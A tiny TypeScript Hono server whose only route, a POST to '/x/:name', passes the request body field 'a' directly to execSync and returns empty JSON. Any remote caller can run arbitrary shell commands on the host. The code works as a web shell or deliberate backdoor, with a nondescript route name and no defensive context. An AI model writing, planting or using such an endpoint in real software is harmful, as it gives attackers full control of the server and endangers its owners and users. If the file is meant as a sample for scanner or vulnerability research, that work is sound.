import { execSync } from "node:child_process";
import { Hono } from 'hono';
const app = new Hono();
app.post('/x/:name', async (c) => {
  execSync((await c.req.parseBody()).a as string);
  return c.json({});
});
export default app;
